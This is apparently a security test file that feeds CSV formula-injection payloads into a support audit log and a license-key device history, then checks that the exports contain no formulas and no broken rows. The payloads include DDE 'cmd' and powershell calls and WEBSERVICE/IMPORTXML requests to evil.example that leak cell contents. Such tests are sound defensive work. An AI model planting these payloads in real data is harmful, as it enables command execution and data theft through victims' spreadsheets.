import { expect, test } from "vitest";
import { database, identityProvider, newClient, polar, report, scaled } from "../../test/security-suite.ts";

const starts = ["=", "+", "-", "@", "＝", "＋", "－", "＠", "|", "%", '"=', "\u200d=", ",=", ";=", '","='];
const rests = [
  "1+1+cmd|' /C calc'!A0",
  'HYPERLINK("https://evil.example/","Click here")',
  'WEBSERVICE("https://evil.example/"&A1)',
  'IMPORTXML("https://evil.example/","//a")',
  "SUM(1+1)*cmd|' /C notepad'!A0",
  'DDE("cmd";"/C calc";"x") of ticket',
  "rundll32|'URL.dll,OpenURL x'!A",
  "2+5+cmd|'/C powershell x'!A0",
  '1"," =1+1","=1+1 twice over',
  "1;=1+1;=2+2 of ticket 4711",
  "@SUM(1+1)*cmd|' /C calc'!A0",
  "'=1+1 in quotes of another kind",
  "A1:A9 \u202e and so on, turned",
  "-+-+1+1 of ticket 4711, signs",
];

function payloads(count: number): string[] {
  const all = starts.flatMap((start) => rests.map((rest) => start + rest));
  expect(all.length).toBeGreaterThanOrEqual(count);
  return Array.from({ length: count }, (_, index) => all[Math.floor((index * all.length) / count)] ?? "");
}

/** The file's cells as a spreadsheet program reads them (RFC 4180). @throws Error where it is no such file */
function cells(csv: string): string[][] {
  const rows: string[][] = [[]];
  let rest = csv.replace(/^\uFEFF/, "");
  while (rest !== "") {
    const [field, quoted = "", end = ""] = /^"((?:[^"]|"")*)"(,|\r\n)/.exec(rest) ?? [];
    if (field === undefined) throw new Error(`no field begins at: ${rest.slice(0, 80)}`);
    rows.at(-1)?.push(quoted.replaceAll('""', '"'));
    if (end === "\r\n") rows.push([]);
    rest = rest.slice(field.length);
  }
  return rows.slice(0, -1);
}

test("a reason never becomes a formula in the exported audit log and never leaves its cell", async () => {
  const given = payloads(scaled(200, 12));
  const customer = await polar.makeCustomer();
  const agent = newClient();
  await agent.signInAsStaff(await identityProvider.hire("lead"));
  for (const reason of given) {
    await database.resetLimits();
    const { customer_id } = customer;
    const started = await agent.post("/api/support/impersonations", { customer_id, reason });
    expect([reason, started.status]).toEqual([reason, 201]);
    await agent.send("DELETE", "/api/support/impersonations/current");
  }
  const auditor = newClient();
  await auditor.signInAsStaff(await identityProvider.hire("auditor"));
  const file = await auditor.get(`/api/support/audit/export?format=csv&customer=${customer.customer_id}`);
  expect([file.status, file.headers.get("content-type")]).toEqual([200, "text/csv; charset=utf-8; header=present"]);
  const [header = [], ...rows] = cells(file.text);
  const column = header.indexOf("reason");
  const reasons = new Set(rows.map((row) => row[column]));
  const formulas = rows.flat().filter((cell) => /^[\s\p{Cc}\p{Cf}]*[=+\-@＝＋－＠|%]/u.test(cell));
  const torn = rows.filter((row) => row.length !== header.length);
  report(
    `CSV injection: ${given.length} payloads in ${rows.length} exported rows: ${formulas.length} formulas, ${torn.length} torn rows`,
  );
  expect(formulas).toEqual([]);
  expect(torn).toEqual([]);
  expect(reasons.size).toBe(given.length);
});

test("a device's label never becomes a formula in a customer's exported history", async () => {
  const labels = payloads(scaled(200, 12));
  const activations = labels.map((label) => ({ label }));
  const benefit = "Northwind Site license";
  const customer = await polar.makeCustomer({
    license_keys: [{ benefit, limit_activations: labels.length, activations }],
  });
  const client = newClient();
  await client.openLink(await polar.mintToken(customer));
  const path = `/api/license-keys/${customer.license_keys[0]?.id}`;
  expect((await client.get(path)).status).toBe(200);
  for (const url of [`${path}/history/export?format=csv`, "/api/history/export?format=csv&kind=devices"]) {
    const file = await client.get(url);
    expect([file.status, file.headers.get("content-type")]).toEqual([200, "text/csv; charset=utf-8; header=present"]);
    const [header = [], ...rows] = cells(file.text);
    const formulas = rows.flat().filter((cell) => /^[\s\p{Cc}\p{Cf}]*[=+\-@＝＋－＠|%]/u.test(cell));
    const torn = rows.filter((row) => row.length !== header.length);
    report(`CSV injection: ${labels.length} labels in ${rows.length} rows of a history: ${formulas.length} formulas`);
    expect([formulas, torn]).toEqual([[], []]);
    expect(rows.filter((row) => row[header.indexOf("action")] === "device_added")).toHaveLength(labels.length);
  }
});
